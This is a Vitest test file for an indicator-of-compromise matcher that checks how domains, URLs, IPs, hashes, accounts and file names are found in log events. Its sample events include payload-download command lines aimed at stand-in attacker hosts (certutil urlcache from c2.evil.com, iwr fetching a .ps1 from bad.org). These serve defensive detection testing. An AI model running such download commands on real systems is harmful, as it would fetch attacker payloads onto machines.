import { describe, expect, it } from 'vitest';
import type { FieldValue, LogEvent } from '../../src/core/index.js';
import {
  detectionFromIoc,
  IndicatorIndex,
  IocMatcher,
  indicatorAt,
  indicatorTable,
  type WatchedIndicator,
} from '../../src/detect/index.js';

function event(fields: Record<string, FieldValue>): LogEvent {
  return { fields, source: { file: 'test.jsonl', record: 1 }, time: Date.parse('2024-05-01T10:00:00Z') };
}

function indicator(type: string, value: string, confidence = 80): WatchedIndicator {
  return { type, value, source: 'list.txt', confidence };
}

function matcherOf(indicators: WatchedIndicator[]): IocMatcher {
  return new IocMatcher([IndicatorIndex.of(indicators)]);
}

function found(matcher: IocMatcher, fields: Record<string, FieldValue>): string[] {
  return matcher.match(event(fields)).map((hit) => `${hit.indicator.value}@${hit.field}`);
}

describe('IocMatcher', () => {
  const matcher = matcherOf([
    indicator('domain', 'evil.com'),
    indicator('url', 'http://bad.org/drop/x.ps1'),
    indicator('ipv4', '198.51.100.7'),
    indicator('ipv4', '203.0.113.0/24'),
    indicator('ipv4', '10.0.0.0/8'),
    indicator('ipv6', '2001:db8:1::/48'),
    indicator('ipv6', '2001:db8::5'),
    indicator('sha256', 'a'.repeat(64)),
    indicator('md5', 'b'.repeat(32)),
    indicator('account', 'svc-backup'),
    indicator('email', 'phish@evil.com'),
    indicator('filename', 'dropper.exe'),
  ]);

  it('packs indicators into a table and gives them back whole', () => {
    const list = [
      { ...indicator('domain', 'evil.com', 55), lastSeen: 1000, note: 'n' },
      indicator('ipv4', '198.51.100.7'),
    ];
    const table = indicatorTable(list);
    expect(table.sources).toEqual(['list.txt']);
    expect([indicatorAt(table, 0), indicatorAt(table, 1)]).toEqual(list);
  });

  it("looks several indexes up as one: every tenant's indicators and a tenant's own", () => {
    const both = new IocMatcher([
      IndicatorIndex.of([indicator('domain', 'evil.com')]),
      IndicatorIndex.of([
        { ...indicator('domain', 'evil.com'), source: 'own.txt' },
        indicator('md5', 'c'.repeat(32)),
      ]),
    ]);
    const hits = both.match(event({ CommandLine: 'ping evil.com', md5: 'C'.repeat(32) }));
    expect(hits.map((h) => `${h.indicator.value} ${h.indicator.source}`)).toEqual([
      'evil.com list.txt',
      'evil.com own.txt',
      `${'c'.repeat(32)} list.txt`,
    ]);
  });

  it('keeps, of two indicators with one value, the one with the higher confidence', () => {
    const m = matcherOf([
      indicator('domain', 'evil.com', 30),
      { ...indicator('domain', 'evil.com', 90), source: 'b' },
    ]);
    expect(m.match(event({ QueryName: 'evil.com' })).map((h) => h.indicator.source)).toEqual(['b']);
  });

  it('finds a domain and its subdomains inside command lines and URLs, not look-alikes', () => {
    expect(found(matcher, { CommandLine: 'certutil -f -urlcache https://c2.evil.com/a.bin' })).toEqual([
      'evil.com@CommandLine',
    ]);
    expect(found(matcher, { CommandLine: 'ping EVIL.COM' })).toEqual(['evil.com@CommandLine']);
    expect(found(matcher, { CommandLine: 'curl notevil.com/x' })).toEqual([]);
    expect(found(matcher, { CommandLine: 'curl evil.com.au/x' })).toEqual([]);
    expect(found(matcher, { CommandLine: 'curl evil.com-cdn.net' })).toEqual([]);
    expect(found(matcher, { 'url.original': 'https://evil.com:8443/x' })).toEqual(['evil.com@url.original']);
  });

  it('finds a host name field under a listed domain by lookup, DNS query names included', () => {
    expect(found(matcher, { QueryName: 'a.b.evil.com' })).toEqual(['evil.com@QueryName']);
    expect(found(matcher, { 'dns.question.name': 'evil.com.' })).toEqual(['evil.com@dns.question.name']);
    expect(found(matcher, { QueryName: 'xevil.com' })).toEqual([]);
  });

  it('finds a URL without its scheme, to the end of its path', () => {
    expect(found(matcher, { CommandLine: 'iwr bad.org/drop/x.ps1 -o a' })).toEqual([
      'http://bad.org/drop/x.ps1@CommandLine',
    ]);
    expect(found(matcher, { url: 'https://bad.org/drop/x.ps1?x=1' })).toEqual([
      'http://bad.org/drop/x.ps1@url',
    ]);
    expect(found(matcher, { url: 'https://bad.org/drop/x.ps12' })).toEqual([]);
    expect(found(matcher, { url: 'https://notbad.org/drop/x.ps1' })).toEqual([]);
  });

  it('finds addresses exactly and in networks, IPv4 and IPv6, with ports and mapped forms', () => {
    expect(found(matcher, { DestinationIp: '198.51.100.7' })).toEqual(['198.51.100.7@DestinationIp']);
    expect(found(matcher, { DestinationIp: '198.51.100.70' })).toEqual([]);
    expect(found(matcher, { 'source.ip': '203.0.113.99' })).toEqual(['203.0.113.0/24@source.ip']);
    expect(found(matcher, { IpAddress: '::ffff:10.1.2.3' })).toEqual(['10.0.0.0/8@IpAddress']);
    expect(found(matcher, { 'id.resp_h': '2001:db8:1:ffff::1' })).toEqual(['2001:db8:1::/48@id.resp_h']);
    expect(found(matcher, { DestinationIp: '2001:db8:0:0:0:0:0:5' })).toEqual(['2001:db8::5@DestinationIp']);
    expect(found(matcher, { 'c-ip': '198.51.100.7:443' })).toEqual(['198.51.100.7@c-ip']);
    // An address in a field that is no address field is not looked at.
    expect(found(matcher, { Description: '198.51.100.7' })).toEqual([]);
  });

  it("finds hashes in Sysmon's Hashes list and in hash fields", () => {
    expect(
      found(matcher, { Hashes: `SHA1=${'c'.repeat(40)},MD5=${'B'.repeat(32)},SHA256=${'A'.repeat(64)}` }),
    ).toEqual([`${'b'.repeat(32)}@Hashes`, `${'a'.repeat(64)}@Hashes`]);
    expect(found(matcher, { 'file.hash.sha256': 'a'.repeat(64) })).toEqual([
      `${'a'.repeat(64)}@file.hash.sha256`,
    ]);
  });

  it('finds accounts with or without their domain, e-mail addresses and file names', () => {
    expect(found(matcher, { TargetUserName: 'SVC-BACKUP' })).toEqual(['svc-backup@TargetUserName']);
    expect(found(matcher, { User: 'CORP\\svc-backup' })).toEqual(['svc-backup@User']);
    expect(found(matcher, { 'user.name': 'svc-backup@corp.example' })).toEqual(['svc-backup@user.name']);
    expect(found(matcher, { userPrincipalName: 'phish@evil.com' })).toEqual([
      'phish@evil.com@userPrincipalName',
    ]);
    expect(found(matcher, { sender: 'Someone <Phish@Evil.com>' })).toEqual(['phish@evil.com@sender']);
    expect(found(matcher, { Image: 'C:\\Users\\Public\\Dropper.exe' })).toEqual(['dropper.exe@Image']);
    expect(found(matcher, { Image: 'C:\\Users\\Public\\notdropper.exe' })).toEqual([]);
  });

  it('reports each indicator once per event, from the first field holding it', () => {
    expect(
      found(matcher, {
        QueryName: 'evil.com',
        CommandLine: 'nslookup evil.com',
        ParentCommandLine: 'x evil.com',
      }),
    ).toEqual(['evil.com@QueryName']);
  });

  it('makes a detection of an ioc:<type> rule, its level from the confidence, with the context', () => {
    const now = Date.parse('2024-05-11T00:00:00Z');
    const m = matcherOf([
      {
        ...indicator('domain', 'evil.com', 55),
        lastSeen: Date.parse('2024-05-01T00:00:00Z'),
        note: 'from a report',
      },
    ]);
    const e = event({ CommandLine: 'ping c2.evil.com', Computer: 'ws1', EventID: 1 });
    const [hit] = m.match(e);
    const detection = detectionFromIoc(hit!, e, now);
    expect(detection).toMatchObject({
      rule: {
        id: 'ioc:domain',
        title: 'Known indicator: domain',
        level: 'medium',
        kind: 'indicator',
        file: 'list.txt',
      },
      host: 'ws1',
      eventId: 1,
      matched: { CommandLine: 'ping c2.evil.com' },
      indicator: {
        type: 'domain',
        value: 'evil.com',
        source: 'list.txt',
        confidence: 55,
        field: 'CommandLine',
        lastSeen: '2024-05-01T00:00:00.000Z',
        ageDays: 10,
        note: 'from a report',
      },
    });
    expect(detectionFromIoc({ ...hit!, indicator: indicator('domain', 'evil.com', 20) }, e).rule.level).toBe(
      'low',
    );
    expect(detectionFromIoc({ ...hit!, indicator: indicator('domain', 'evil.com', 90) }, e).rule.level).toBe(
      'high',
    );
  });
});
